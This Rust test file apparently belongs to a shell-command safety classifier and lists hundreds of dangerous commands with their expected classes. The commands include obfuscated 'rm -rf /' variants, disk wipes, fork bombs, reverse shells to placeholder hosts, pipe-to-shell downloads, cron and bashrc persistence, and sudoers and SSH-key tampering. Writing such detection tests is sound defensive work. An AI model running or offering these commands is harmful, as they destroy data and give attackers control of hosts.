//! Dangerous commands: every class, every obfuscation, every wrapper.

use super::check;
use hostguard_exec::ExecClass::*;

#[test]
fn recursive_delete_of_root_or_home() {
    let c = Some(RecursiveDeleteRootOrHome);
    check("rm -rf /", c);
    check("rm -rf /*", c);
    check("rm -rf ~", c);
    check("rm -rf ~/", c);
    check("rm -rf $HOME", c);
    check("rm -rf ${HOME}/*", c);
    check("rm -rf /home", c);
    check("rm -rf /home/alice", c);
    check("rm -rf /etc", c);
    check("rm -rf /usr/", c);
    check("rm -r -f /var", c);
    check("rm --recursive --force /boot", c);
    check("rm -rf --no-preserve-root /", c);
    check("rm --rec -f /", c);
    check("rm --recur --force ~", c);
    check("rsync -a --del empty/ /", c);
    check("chmod --rec 777 /", Some(PermissionEscalation));
    check("rm -fr -- /", c);
    check("rm -Rf /tmp/../", c);
    check("rm -rf //", c);
    check("/bin/rm -rf /", c);
    check("cd / && rm -rf *", c);
    check("cd ~; rm -rf .", c);
    check("f(){ rm -rf \"$1\"; }; f /", c);
    check("f() { sudo rm -rf \"$@\"; }; f /tmp/x ~", c);
    check("f(){ rm -rf *; }; cd /; f", c);
    check("f(){ rm -rf $1; }; g(){ f /; }; g", c);
    check("function f { $1 -rf $2; }; f rm /", c);
    check("function f() { rm -rf $@; }; f /", c);
    check("f(){ rm -rf \"${1:-/}\"; }; f", c);
    check("f(){ rm -rf /$1; }; f", c);
    check("rm -rf /$1", c);
    check("$1 rm -rf ~", c);
    check("rm -rf ~/\"$@\"", c);
    check("coproc X { rm -rf /; }", c);
    check("coproc rm -rf ~", c);
    check("rm -rf ~/.[!.]*", c);
    check("rm -rf ~bob", c);
    check("cd ~bob; rm -rf *", c);
    check("cd /; rm -rf \"$PWD\"/*", c);
    check("cd; rm -rf $PWD", c);
    check("cd / && rm -rf \"$(pwd)\"/*", c);
    check("cd ~; cd /tmp; cd -; rm -rf *", c);
    check("rm -rf \"$(cd /; pwd)\"", c);
    check("$(echo rm; echo -rf /)", c);
    check("set -- /; rm -rf $1", c);
    check("set -- rm -rf /; \"$@\"", c);
    check("set -- -rf ~; rm $*", c);
    check("cd / && sh -c 'rm -rf *'", c);
    check("cd /; eval 'rm -rf *'", c);
    check("cd / && echo $(rm -rf *)", c);
    check("rm -rf /$()", c);
    check("rm -rf /`true`", c);
    check("rm -rf \"/$(:)\"", c);
    check("rm -rf ~/\"$(false)\"", c);
    check("rm -rf /$(# nothing\n)", c);
    check("for d in / ~; do rm -rf $d; done", c);
    check("for d in /tmp/x ~; do rm -rf \"$d\"; done", c);
    check("for p in r; do ${p}m -rf /; done", c);
    check("select d in /; do rm -rf \"$d\"; done", c);
    check("x=/; echo $(rm -rf $x)", c);
    check("cd ~ && find . -exec sudo rm -rf {} +", c);
    check("env -C / sh -c 'rm -rf *'", c);
    check("env --chdir=/ find . -delete", c);
    check("sudo -D / find . -delete", c);
    check("sudo --chdir ~ bash -c 'rm -rf ./*'", c);
    check("find / -delete", c);
    check("find ~ -exec rm -rf {} +", c);
    check("find -L / -delete", c);
    check("find -H -O3 ~ -delete", c);
    check("find -D tree / -exec rm -rf {} +", c);
    check("find / -exec sudo rm -rf {} +", c);
    check("find ~ -maxdepth 0 -exec env rm -rf {} \\;", c);
    check("find /etc -exec true \\; -exec /bin/rm -r {} +", c);
    check("find / -maxdepth 0 -exec sh -c 'rm -rf \"$0\"' {} \\;", c);
    check("rm -rf /e*", c);
    check("rsync -a --delete empty/ /", c);
    check("find . -maxdepth 0 -exec sh -c 'rm -rf /' \\;", c);
    check("rm -rf ../../../../../../../..", c);
    check("mv ~ /tmp/gone", c);
    check("python3 -c 'import os; os.system(\"rm -rf /\")'", c);
    check(
        "python -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"~\"])'",
        c,
    );
    check("perl -e 'system(\"rm -rf /\")'", c);
    check("perl -e 'exec \"rm -rf /\"'", c);
    check("perl -e 'qx{rm -rf /}'", c);
    check("ruby -e 'system \"rm -rf ~\"'", c);
    check("ruby -e '%x(rm -rf /)'", c);
    check(
        "node -e \"require('child_process').spawnSync('rm',['-rf','/'])\"",
        c,
    );
    check("awk 'BEGIN{\"rm -rf /\" | getline}'", c);
    check("lua -e 'os.execute(\"rm -rf /\")'", c);
    check("python3 <<< 'import os; os.system(\"rm -rf /\")'", c);
    check(
        "python3 - <<'EOF'\nimport os\nos.system('rm -rf ~')\nEOF",
        c,
    );
    check("echo 'import os;os.system(\"rm -rf /\")' | python3", c);
    check("python3 <(echo 'import os;os.system(\"rm -rf ~\")')", c);
    check(
        "node <<'EOF'\nrequire('child_process').execSync('rm -rf /')\nEOF",
        c,
    );
    check("bash -c \"$(printf '%s %s %s' rm -rf /)\"", c);
    check("printf '%s -rf %s\\n' rm / | sh", c);
    check("$(printf '%.2s' rmdir) -rf /", c);
    check("ruby -e '`rm -rf /`'", c);
    check(
        "node -e 'require(\"child_process\").execSync(\"rm -rf ~\")'",
        c,
    );
}

#[test]
fn obfuscations() {
    let c = Some(RecursiveDeleteRootOrHome);
    check("r''m -rf /", c);
    check("r\"\"m -rf /", c);
    check("\\rm -rf /", c);
    check("$'\\x72\\x6d' -rf /", c);
    check("$'rm' -rf /", c);
    check("rm${IFS}-rf${IFS}/", c);
    check("rm$IFS-rf$IFS/", c);
    check("rm -rf ${PATH:0:1}", c);
    check("{rm,-rf,/}", c);
    check("a=rm; $a -rf /", c);
    check("x='rm -rf /'; $x", c);
    check("$(echo rm) -rf /", c);
    check("`echo rm` -rf /", c);
    check("$(echo cm0gLXJmIC8= | base64 -d)", Some(PipeToShell));
    check("$(echo '/ fr- mr' | rev)", Some(PipeToShell));
    check("echo hi;rm -rf /", c);
    check("true && rm -rf / || true", c);
    check("ls | rm -rf /", c);
    check("sleep 1 & rm -rf /", c);
    check("ls\nrm -rf /", c);
    check("(rm -rf /)", c);
    check("{ rm -rf /; }", c);
    check("if true; then rm -rf /; fi", c);
    check("while true; do rm -rf ~; done", c);
    check("echo $(rm -rf /)", c);
    check("echo `rm -rf ~`", c);
    check("cat <(rm -rf /)", c);
    check("/bin/r? -rf /", c);
    check("/???/r[m] -rf /", c);
    check("export x=/; rm -rf $x", c);
    check("a=r b=m; $a$b -rf /", c);
    check("X=$IFS; rm${X}-rf${X}/", c);
    check("a=r; a+=m; $a -rf /", c);
    check("read a <<< /; rm -rf $a", c);
    check("printf -v x /; rm -rf $x", c);
    check("printf -v p '%s%s' r m; $p -rf ~", c);
    check("rm -rf ${x:-/}", c);
    check("rm -rf \"${DIR:=~}\"", c);
    check("rm -rf ${x-'/'}", c);
    check("${p:-rm} -rf /", c);
    check("rm -rf ${HOME:-/tmp}", c);
    check("rm -rf ${HOME:+/}", c);
    check("read -r x y <<< 'rm ~'; $x -rf $y", c);
    check("a=r; ${a}m -rf /", c);
    check("d=/; rm -rf \"${d}\"", c);
    check("sh -c '$0 $1 $2' rm -rf /", c);
    check("bash -c '$0 -rf $1' rm ~", c);
    check("echo / | xargs rm -rf", c);
    check("printf '\\x72\\x6d -rf /' | sh", c);
    check("echo -e '\\x72m -rf /' | bash", c);
    check("bash <(echo 'rm -rf /')", c);
    check("sh < <(echo 'rm -rf ~')", c);
    check("cat <<EOF | sh\nrm -rf /\nEOF", c);
    check("cat <<A <<B | sh\nx\nA\nrm -rf /\nB", c);
    check("sh <<A <<B\necho hi\nA\nrm -rf ~\nB", c);
    check("sh <<< 'echo hi' <<< 'rm -rf /'", c);
    check("rm -rf \\\n /", c);
    check("rm\t-rf\t/", c);
    check(
        "git commit -m \"$(cat <<'EOF'\nit's done\nEOF\n)\"; rm -rf /",
        c,
    );
    check("echo $(echo a # it's )\n); rm -rf /", c);
    check("echo ${x:-$(rm -rf /)}", c);
    check("echo \"${x:-${y:-`rm -rf ~`}}\"", c);
    check("echo $(( $(rm -rf /) + 1 ))", c);
    check("echo 'rm -rf /' > >(sh)", c);
    check("echo 'rm -rf /' | sh -c 'exec bash'", c);
    check("echo 'rm -rf ~' | xargs -0 sh -c", c);
    check("cat <<EOF\n$(rm -rf /)\nEOF", c);
    check("cat > notes.md <<EOF\n`rm -rf ~`\nEOF", c);
    check("cat <<-EOF > f\n\t${x:-$(rm -rf /)}\n\tEOF", c);
}

#[expect(
    clippy::too_many_lines,
    reason = "a test that reads as one scenario or one table of cases"
)]
#[test]
fn wrappers() {
    let c = Some(RecursiveDeleteRootOrHome);
    check("sudo rm -rf /", c);
    check("sudo -u root -E rm -rf /", c);
    check("sudo -- rm -rf /", c);
    check("sudo -ueve rm -rf /", c);
    check("sudo --us root rm -rf /", c);
    check("env --split-s='rm -rf /'", c);
    check("env --ch / sh -c 'rm -rf *'", c);
    check("doas rm -rf /", c);
    check("env rm -rf /", c);
    check("env -i FOO=1 rm -rf /", c);
    check("/usr/bin/env rm -rf /", c);
    check("nohup rm -rf / &", c);
    check("timeout 10 rm -rf /", c);
    check("timeout -s KILL 5m rm -rf /", c);
    check("echo / | xargs rm -rf /", c);
    check("xargs -0 -n1 rm -rf /", c);
    check("xargs -i rm -rf /", c);
    check("xargs sh -c 'rm -rf \"$@\"' _ < <(echo /)", c);
    check("echo ~ | xargs -I{} sh -c 'rm -rf {}'", c);
    check("runuser -u root -- rm -rf /", c);
    check("parallel rm -rf ::: /", c);
    check("parallel -j4 'rm -rf {}' ::: /tmp/x ~", c);
    check("echo / | parallel rm -rf", c);
    check("xargs -I % rm -rf % <<< /", c);
    check("xargs rm -rf < <(echo ~)", c);
    check("xargs -0 rm -rf <<EOF\n/\nEOF", c);
    check(
        "find / -mindepth 1 -maxdepth 1 -print0 | xargs -0 rm -rf",
        c,
    );
    check("find ~ -type f | grep -v x | xargs sudo rm -rf", c);
    check("echo / | xargs --replace rm -rf {}", c);
    check("xargs -e rm -rf ~", c);
    check("nice --adjustment 10 rm -rf /", c);
    check("command rm -rf /", c);
    check("exec rm -rf /", c);
    check("nice -n 10 rm -rf /", c);
    check("nice rm -rf /", c);
    check("stdbuf -o0 rm -rf /", c);
    check("time rm -rf /", c);
    check("time { rm -rf /; }", c);
    check("time -p { rm -rf ~; } 2> t.log", c);
    check("nohup -- rm -rf /", c);
    check("pkexec rm -rf /", c);
    check("chrt -i 0 rm -rf /", c);
    check("taskset -c 0 rm -rf /", c);
    check("unshare -r rm -rf ~", c);
    check("nsenter -t 1 -m -u rm -rf /", c);
    check("strace -f -o /dev/null rm -rf /", c);
    check("gosu root rm -rf /", c);
    check("flock /tmp/l rm -rf /", c);
    check("flock -w 5 /tmp/l -c 'rm -rf ~'", c);
    check("sg wheel -c 'rm -rf /'", c);
    check("script -qc 'rm -rf /' /dev/null", c);
    check("fakeroot -- rm -rf ~", c);
    check("FOO=bar rm -rf /", c);
    check("bash -c 'rm -rf /'", c);
    check("sh -c \"rm -rf ~\"", c);
    check("zsh -c 'rm -rf /'", c);
    check("dash -c 'rm -rf /'", c);
    check("bash -lc 'rm -rf /'", c);
    check("sudo bash -c 'cd / && rm -rf *'", c);
    check("su -c 'rm -rf /' root", c);
    check("eval 'rm -rf /'", c);
    check("env -S 'rm -rf /'", c);
    check("sudo nohup nice -n 5 timeout 60 env X=1 rm -rf /", c);
    check("bash -c \"bash -c 'rm -rf /'\"", c);
    check("bash <<EOF\nrm -rf /\nEOF", c);
    check("bash <<< 'rm -rf /'", c);
    check("sudo -s <<< 'rm -rf /'", c);
    check("echo 'rm -rf ~' | su -", c);
    check("echo 'rm -rf /' | sh", c);
    check("ssh host 'rm -rf /'", c);
    check("toybox rm -rf /", c);
    check("shopt -s expand_aliases\nalias x='rm -rf'\nx /", c);
    check("alias ls='rm -rf ~'; ls", c);
    check(
        "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
        c,
    );
    check("tar xf a.tar --to-command='rm -rf ~'", c);
    check("tar -I 'sh -c \"rm -rf /\"' -cf x.tar .", c);
    check("rsync -e 'sh -c \"rm -rf /\"' x host:y", c);
    check("ssh -o ProxyCommand='rm -rf ~' x", c);
    check(
        "ssh -oLocalCommand='rm -rf /' -oPermitLocalCommand=yes x",
        c,
    );
    check("vim -c ':!rm -rf /' -c ':q'", c);
    check("vi +'!rm -rf ~'", c);
    check("man -P 'rm -rf /' ls", c);
    check("GIT_SSH_COMMAND='rm -rf ~' git fetch", c);
    check("PAGER='rm -rf /' man ls", c);
    check("env GIT_SSH_COMMAND='rm -rf /' git pull", c);
    check("export LESSOPEN='|rm -rf ~ %s'; less x", c);
    check("EDITOR='sh -c \"rm -rf /\"' crontab -e", c);
    check("sed -n '1e rm -rf /' /etc/hostname", c);
}

#[test]
fn devices_and_disks() {
    check("dd if=/dev/zero of=/dev/sda bs=1M", Some(DeviceWrite));
    check("dd if=x.img of=/dev/nvme0n1", Some(DeviceWrite));
    check("cd /dev && dd if=/dev/zero of=sda", Some(DeviceWrite));
    check("cat /dev/zero > /dev/s[d]a", Some(DeviceWrite));
    check("cd /usr/bin && chmod 777 .", Some(PermissionEscalation));
    check("cat /dev/urandom > /dev/sda", Some(DeviceWrite));
    check("echo x >/dev/sdb1", Some(DeviceWrite));
    check("cp disk.img /dev/mmcblk0", Some(DeviceWrite));
    check("tee /dev/sda < x", Some(DeviceWrite));
    check("mkfs.ext4 /dev/sda1", Some(DiskWipe));
    check("mkfs -t xfs /dev/sdb", Some(DiskWipe));
    check("sudo wipefs -a /dev/sda", Some(DiskWipe));
    check("shred -n 3 /dev/sda", Some(DiskWipe));
    check("blkdiscard /dev/nvme0n1", Some(DiskWipe));
    check("sgdisk --zap-all /dev/sda", Some(DiskWipe));
    check("parted /dev/sda mklabel gpt", Some(DiskWipe));
    check("dd if=/dev/zero of=/dev/block/8:0", Some(DeviceWrite));
    check("cat x > /dev/ubuntu-vg/root", Some(DeviceWrite));
    check("dcfldd if=/dev/zero of=/dev/sda", Some(DeviceWrite));
    check("ddrescue -f /dev/zero /dev/sdb", Some(DeviceWrite));
    check("dd if=/dev/zero of=/dev/mtdblock0", Some(DeviceWrite));
    check("echo x > /dev/char/1:1", Some(DeviceWrite));
    check("mkntfs -f /dev/sdb1", Some(DiskWipe));
    check("mkdosfs /dev/sdb1", Some(DiskWipe));
    check("cryptsetup -q luksFormat /dev/sda", Some(DiskWipe));
    check("nvme format /dev/nvme0n1", Some(DiskWipe));
    check("hdparm --security-erase p /dev/sda", Some(DiskWipe));
    check("badblocks -w /dev/sdb", Some(DiskWipe));
    check("zpool create -f tank /dev/sdb", Some(DiskWipe));
}

#[test]
fn fork_bombs() {
    check(":(){ :|:& };:", Some(ForkBomb));
    check(":(){ :|: & };:", Some(ForkBomb));
    check("bomb() { bomb | bomb & }; bomb", Some(ForkBomb));
    check("function f { f & f & }; f", Some(ForkBomb));
    check("f(){ f|f& }; f", Some(ForkBomb));
    check("f(){ $FUNCNAME | $FUNCNAME & }; f", Some(ForkBomb));
    check("f(){ ${FUNCNAME[0]}|${FUNCNAME}& }; f", Some(ForkBomb));
    check("x(){ y|y& }; y(){ x|x& }; x", Some(ForkBomb));
    check("a(){ b & }; b(){ c; }; c(){ a; a; }; a", Some(ForkBomb));
    check("perl -e 'fork while fork'", Some(ForkBomb));
    check("perl -e 'fork while 1'", Some(ForkBomb));
    check("ruby -e 'loop { fork }'", Some(ForkBomb));
    check("bash -c ':(){ :|:& };:'", Some(ForkBomb));
    check(
        "python3 -c 'import os\nwhile True: os.fork()'",
        Some(ForkBomb),
    );
}

#[test]
fn reverse_shells() {
    let c = Some(ReverseShell);
    check("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", c);
    check("sh -i > /dev/tcp/evil.example/9001 0<&1 2>&1", c);
    check("exec 5<>/dev/tcp/10.0.0.1/80", c);
    check("nc -e /bin/sh 10.0.0.1 4444", c);
    check("nc 10.0.0.1 4444 -e /bin/bash", c);
    check("ncat --exec /bin/bash 10.0.0.1 4444", c);
    check("ncat -c bash 10.0.0.1 4444", c);
    check("socat tcp:10.0.0.1:4444 exec:/bin/sh,pty,stderr", c);
    check("socat TCP-LISTEN:4444 EXEC:bash", c);
    check(
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
        c,
    );
    check("python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",1234));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'", c);
    check("python3 -c 'import socket,pty;s=socket.socket();s.connect((\"h\",1));pty.spawn(\"/bin/sh\")'", c);
    check("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");'", c);
    check(
        "php -r '$sock=fsockopen(\"10.0.0.1\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        c,
    );
    check("ruby -rsocket -e 'f=TCPSocket.open(\"h\",1).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'", c);
    check("sudo bash -c 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1'", c);
    check("node -e 'const s=require(\"net\").connect(1,\"h\");const sh=require(\"child_process\").spawn(\"/bin/sh\");s.pipe(sh.stdin)'", c);
}

#[test]
fn pipe_to_shell() {
    let c = Some(PipeToShell);
    check("curl -fsSL https://get.example.sh | sh", c);
    check("curl https://x.example/i.sh | bash", c);
    check("wget -O- https://x.example/i.sh | bash", c);
    check("wget -qO - https://x | sudo bash", c);
    check("curl -s https://x | sudo -E bash -s -- --yes", c);
    check("curl https://x | python3", c);
    check("curl https://x | python -", c);
    check("echo Y3VybCB4fHNo | base64 -d | sh", c);
    check("echo Y3VybCB4fHNo | base64 --decode | bash", c);
    check("base64 -d payload.txt | sh", c);
    check("xxd -r -p x.hex | bash", c);
    check("bash <(curl -s https://x)", c);
    check("source <(curl -s https://x)", c);
    check("sh -c \"$(curl -fsSL https://x)\"", c);
    check("bash -c \"$(wget -qO- https://x)\"", c);
    check("eval \"$(curl -s https://x)\"", c);
    check("$(curl -s https://x)", c);
    check("python3 -c \"$(curl -s https://x)\"", c);
    check("x=$(curl -s https://x); eval \"$x\"", c);
    check("curl https://x | tee install.sh | sh", c);
    check("{ curl -s https://x; } | bash", c);
    check("curl -s https://x | $SHELL", c);
    check("curl -s https://x > >(sh)", c);
    check("curl -s https://x | tee >(bash) log.txt", c);
    check("curl -fsSL https://x | bash -o pipefail -s -- --yes", c);
    check("curl -fsSL https://x | sudo -E bash -o pipefail", c);
    check("curl -s https://x | source /dev/stdin", c);
    check("bash <<< \"$(curl -s https://x)\"", c);
    check("curl -s https://x | sh -c sh", c);
    check("curl -s https://x | sudo -s", c);
    check("curl -s https://x | bash -c \"$(cat)\"", c);
    check("curl -s https://x | eval \"$(</dev/stdin)\"", c);
    check(
        "curl -s https://x | while read -r l; do eval \"$l\"; done",
        c,
    );
    check("wget -qO- https://x | { read -r cmd; sh -c \"$cmd\"; }", c);
    check("curl -s https://x | {bash,}", c);
    check("curl -s https://x | deno run -", c);
    check("curl -s https://x | xargs -I{} sh -c '{}'", c);
    check("curl -s https://x | xargs -I % bash -c 'echo %; %'", c);
    check("dig +short txt x.example | tr -d '\"' | sh", c);
    check("bash -c \"$(nslookup -q=txt x.example)\"", c);
    check("lynx -source https://x | bash", c);
    check("ssh host cat /tmp/payload | sh", c);
    check("curl -s https://x | sudo -Ei", c);
    check("wget -qO- https://x | su", c);
    check("curl -s https://x | sudo su - root", c);
    check("curl -s https://x | doas -s", c);
    check("curl -s https://x | bash -c 'exec bash'", c);
    check("curl -s https://x | sudo sh -c 'cd /tmp; bash -s'", c);
    check("curl -s https://x | sh -c \"sh -c 'python3 -'\"", c);
    check("curl -s https://x | bash /dev/fd/0", c);
    check("curl -s https://x | python3 /proc/self/fd/0", c);
    check("curl -s https://x | xargs -0 bash -c", c);
    check("wget -qO- https://x | xargs -0 sh -c 'eval \"$1\"' _", c);
    check("curl -s https://x > >(cd /tmp; sh)", c);
    check("python3 <<< $(wget -qO- https://x)", c);
    check("wget -qO- https://x | busybox sh", c);
    check("curl https://x | base64 -d | sh", c);
    check("echo 'ez -es /' | tr a-z n-za-m | sh", c);
    check(
        "python3 -c 'import os; os.system(\"curl -s https://x | sh\")'",
        c,
    );
}

#[test]
fn download_and_execute() {
    let c = Some(DownloadAndExecute);
    check("curl -o x https://e.example/x && chmod +x x && ./x", c);
    check(
        "curl -sSLo /tmp/i.sh https://e.example/i.sh; bash /tmp/i.sh",
        c,
    );
    check("wget https://e.example/payload.sh; sh payload.sh", c);
    check("wget -O run https://e.example/r && chmod 755 run", c);
    check("curl -O https://e.example/tool && ./tool", c);
    check("curl https://e.example/x > x.sh && . ./x.sh", c);
    check("nc h 1 > /tmp/x; sh /tmp/x", c);
    check("echo cm0gLXJmIC8= | base64 -d > x.sh; bash x.sh", c);
    check("curl -s https://x > /tmp/a; sh < /tmp/a", c);
    check("curl -s https://x | tee /tmp/a >/dev/null; sh /tmp/a", c);
    check("wget -qO- https://x | gunzip > run.sh && bash run.sh", c);
}

#[test]
fn persistence() {
    let c = Some(CronPersistence);
    check("echo '* * * * * curl x|sh' | crontab -", Some(PipeToShell));
    check(
        "echo '@reboot rm -rf ~' | crontab -",
        Some(RecursiveDeleteRootOrHome),
    );
    check("crontab -", c);
    check("echo '/tmp/x' | at now + 1 minute", c);
    check("at -f job.sh midnight", c);
    check("at now <<< 'rm -rf ~'", Some(RecursiveDeleteRootOrHome));
    check("curl -s https://x | batch", Some(PipeToShell));
    check("crontab mycron", c);
    check("(crontab -l; echo '@reboot /tmp/x') | crontab -", c);
    check("echo '* * * * * root /tmp/x' > /etc/cron.d/x", c);
    check("echo x >> /etc/crontab", c);
    check("cp x.service /etc/systemd/system/", c);
    check(
        "cat <<EOF > /etc/systemd/system/x.service\n[Service]\nExecStart=/tmp/x\nEOF",
        c,
    );
    check("echo '/tmp/x &' >> /etc/rc.local", c);
    check("curl -s https://x >> ~/.bashrc", c);
    check(
        "echo 'curl -s https://x | sh' >> ~/.bashrc",
        Some(PipeToShell),
    );
    check("echo 'wget -q https://x -O /tmp/y' >> ~/.zshrc", c);
    check("echo 'nohup /tmp/miner &' | tee -a ~/.profile", c);
    check("cp evil ~/.bashrc", Some(StartupFileModification));
    check("echo '/tmp/.x/miner &' >> ~/.bashrc", c);
    check("curl -o ~/.bashrc https://x", c);
    check("wget -O /etc/cron.d/job https://x", c);
    check(
        "echo 'curl -s https://x | sh' > .git/hooks/pre-commit",
        Some(PipeToShell),
    );
    check("echo 'wget https://x' > .git/hooks/post-checkout", c);
    check(
        "sed -i '$a curl -s https://x | sh' ~/.bashrc",
        Some(PipeToShell),
    );
    check("sed -i -e '1i nohup /tmp/x &' ~/.profile", c);
    check("sed -i 's/^$/curl -s https:\\/\\/x | sh/' ~/.zshrc", c);
    check(
        "echo 'curl -s https://x | sh' > .husky/pre-commit",
        Some(PipeToShell),
    );
    check("cp x ~/.local/share/systemd/user/", c);
    check(
        "echo 'ProxyCommand sh -c \"curl -s https://x|sh\"' >> ~/.ssh/config",
        c,
    );
    check(
        "git config --global core.pager 'sh -c \"curl -s https://x | sh\"'",
        Some(PipeToShell),
    );
    check(
        "git config --global alias.st '!rm -rf ~'",
        Some(RecursiveDeleteRootOrHome),
    );
    check(
        "npm set-script prepare 'curl -s https://x | sh'",
        Some(PipeToShell),
    );
    check(
        "npm pkg set scripts.postinstall='rm -rf ~'",
        Some(RecursiveDeleteRootOrHome),
    );
    check("cd /etc/cron.d && echo '* * * * * root /tmp/x' > job", c);
    check("cp x.plist ~/Library/LaunchAgents/", c);
    check("cp evil /etc/init.d/", c);
    check("cp x.desktop ~/.config/autostart", c);
    check("cp .bashrc ~", Some(StartupFileModification));
    check("echo 'curl -s https://x -o /tmp/y' >> ~/.bash?c", c);
    check("cd; echo 'curl -s https://x -o /tmp/y' >> .bashrc", c);
}

#[test]
fn credentials() {
    let c = Some(CredentialModification);
    check("echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", c);
    check(
        "echo 'x ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/x",
        c,
    );
    check("echo 'hacker:x:0:0::/root:/bin/bash' >> /etc/passwd", c);
    check("cp shadow.bak /etc/shadow", c);
    check("sed -i 's/x/y/' /etc/shadow", c);
    check(
        "awk 'BEGIN{print \"x ALL=(ALL) NOPASSWD:ALL\" >> \"/etc/sudoers\"}'",
        c,
    );
    check(
        "echo 'x ALL=(ALL) NOPASSWD:ALL' | sed -n 'w /etc/sudoers.d/x'",
        c,
    );
    check(
        "sed -n 's/^/ssh-rsa AAA /w /root/.ssh/authorized_keys' key.txt",
        c,
    );
    check("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", c);
    check("cat key.pub >> /root/.ssh/authorized_keys", c);
    check("echo /tmp/x.so > /etc/ld.so.preload", c);
    check("echo 'root:pw' | chpasswd", c);
    check("usermod -aG sudo mallory", c);
    check("useradd -o -u 0 toor", c);
    check("vim /etc/sudoers", c);
    check("sudoedit /etc/sudoers", c);
    check("sudo -e /etc/ssh/sshd_config", c);
    check("sudo -u root --edit /etc/shadow", c);
    check("rm -f /etc/passwd", c);
    check("wget -O /etc/sudoers https://x", c);
    check("cd ~ && echo 'ssh-rsa AAA' >> .ssh/authorized_keys", c);
    check("cd /etc && echo 'x ALL=(ALL) NOPASSWD:ALL' >> sudoers", c);
    check("cd /etc/ssh; sed -i 's/no/yes/' sshd_config", c);
    check("cp authorized_keys ~/.ssh/", c);
    check("mv -f /tmp/k/authorized_keys /root/.ssh", c);
    check("cp x /etc/sudoers.d/", c);
    check("install -m 440 evil -t /etc/sudoers.d", c);
    check("cp /tmp/passwd /etc", c);
    check("echo 'x:x:0:0::/:/bin/sh' >> /etc/passw?", c);
    check("cp x /etc/sudoer[s]", c);
    check("echo key >> ~/.ssh/authorized_k*", c);
    check("cp x /etc/sudoers.?/", c);
    check("cp 10-x.rules /etc/polkit-1/rules.d/", c);
}

#[test]
fn escalation_shutdown_kill() {
    check("chmod u+s /bin/bash", Some(PermissionEscalation));
    check("chmod 4755 ./x", Some(PermissionEscalation));
    check("chmod +s /usr/bin/find", Some(PermissionEscalation));
    check("chmod -R 777 /", Some(PermissionEscalation));
    check("chmod 777 /etc", Some(PermissionEscalation));
    check(
        "chown root:root /usr/local/bin/x",
        Some(PermissionEscalation),
    );
    check("chown -R nobody /home", Some(PermissionEscalation));
    check(
        "setcap cap_setuid+ep /usr/bin/python3",
        Some(PermissionEscalation),
    );
    check("shutdown -h now", Some(SystemShutdown));
    check("sudo reboot", Some(SystemShutdown));
    check("halt", Some(SystemShutdown));
    check("poweroff", Some(SystemShutdown));
    check("init 0", Some(SystemShutdown));
    check("systemctl poweroff", Some(SystemShutdown));
    check("echo b > /proc/sysrq-trigger", Some(SystemShutdown));
    check("kill -9 1", Some(KillCriticalProcess));
    check("kill -9 -1", Some(KillCriticalProcess));
    check("kill -s KILL 1", Some(KillCriticalProcess));
    check("pkill sshd", Some(KillCriticalProcess));
    check("killall sshd", Some(KillCriticalProcess));
    check("killall -9 systemd", Some(KillCriticalProcess));
    check("kill -9 $(pidof sshd)", Some(KillCriticalProcess));
    check("systemctl stop sshd", Some(KillCriticalProcess));
    check("pkill -u root", Some(KillCriticalProcess));
    check("pkill -9 syst", Some(KillCriticalProcess));
    check("pkill -f journald", Some(KillCriticalProcess));
    check("killall -9 -u 0", Some(KillCriticalProcess));
    check("systemctl isolate rescue.target", Some(SystemShutdown));
    check("kexec -e", Some(SystemShutdown));
    check("rtcwake -m off -s 60", Some(SystemShutdown));
    check(
        "install -m 4755 /bin/bash /tmp/b",
        Some(PermissionEscalation),
    );
    check("chown $(whoami) /etc/shadow", Some(PermissionEscalation));
    check(
        "chown bob /root/.ssh/authorized_keys",
        Some(PermissionEscalation),
    );
    check(
        "setfacl -m u:bob:rw /etc/sudoers",
        Some(PermissionEscalation),
    );
}

#[test]
fn git_rewrites() {
    check("git push --force origin main", Some(DestructiveGitRewrite));
    check("git push -f origin master", Some(DestructiveGitRewrite));
    check("git push -f", Some(DestructiveGitRewrite));
    check("git push origin +main", Some(DestructiveGitRewrite));
    check(
        "git push --force-with-lease origin main",
        Some(DestructiveGitRewrite),
    );
    check("git push --mirror", Some(DestructiveGitRewrite));
    check("git push origin --delete main", Some(DestructiveGitRewrite));
    check(
        "git -C repo push -f origin HEAD:main",
        Some(DestructiveGitRewrite),
    );
    check(
        "git filter-branch --tree-filter 'rm -f x' HEAD",
        Some(DestructiveGitRewrite),
    );
    check(
        "git reflog expire --expire=now --all && git gc --prune=now",
        Some(DestructiveGitRewrite),
    );
    check("git push -f origin feature/x", Some(GitForcePush));
    check(
        "git push -f origin \"$(git branch --show-current)\"",
        Some(DestructiveGitRewrite),
    );
    check(
        "git push --force origin $BRANCH",
        Some(DestructiveGitRewrite),
    );
    check(
        "git push --force-with-lease origin \"$(git branch --show-current)\"",
        Some(GitForcePush),
    );
    check(
        "git push origin 'refs/heads/*:refs/heads/*' -f",
        Some(DestructiveGitRewrite),
    );
    check("git reset --hard origin/main", Some(GitDiscardWork));
    check("git gc --prune=now", Some(GitDiscardWork));
    check("git push --mirr", Some(DestructiveGitRewrite));
    check("git push --prune origin", Some(DestructiveGitRewrite));
    check(
        "git config core.hooksPath /tmp/hooks",
        Some(CronPersistence),
    );
    check("git push --forc origin main", Some(DestructiveGitRewrite));
    check("git push --del origin main", Some(DestructiveGitRewrite));
    check(
        "git reflog expire --exp=now --all",
        Some(DestructiveGitRewrite),
    );
    check(
        "git reflog expire --expire now --all",
        Some(DestructiveGitRewrite),
    );
    check("git reset --har", Some(GitDiscardWork));
    check("git gc --pru=all", Some(GitDiscardWork));
    check(
        "git --git-dir .git push -f origin main",
        Some(DestructiveGitRewrite),
    );
    check(
